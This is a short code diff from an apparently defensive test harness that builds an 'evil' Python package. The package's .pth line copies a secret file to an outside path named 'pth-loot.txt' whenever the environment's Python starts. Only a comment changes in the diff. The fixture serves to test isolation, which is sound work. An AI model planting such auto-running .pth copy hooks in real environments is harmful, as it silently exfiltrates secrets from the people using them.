@@ -95,7 +95,7 @@ class Scene:
                      f"HIDDEN = {str(self.problem_dir / 'tests' / 'test_checkpoint_2.py')!r}\n"
                      f"WORKSPACE = {str(self.workspace)!r}\nOUTSIDE = {str(self.outside)!r}\n"
                      f"CACHE = {str(self.cache)!r}\n")
-        # Run by every start of the built environment's python: `uv pip freeze` included.
+        # Run by every start of the built environment's python, wherever the harness starts it.
         pth = (f"import shutil; shutil.copy({str(self.secret_file)!r}, "
                f"{str(self.outside / 'pth-loot.txt')!r})")
         write_evil_package(self.workspace / "evil", constants + PAYLOAD, pth)
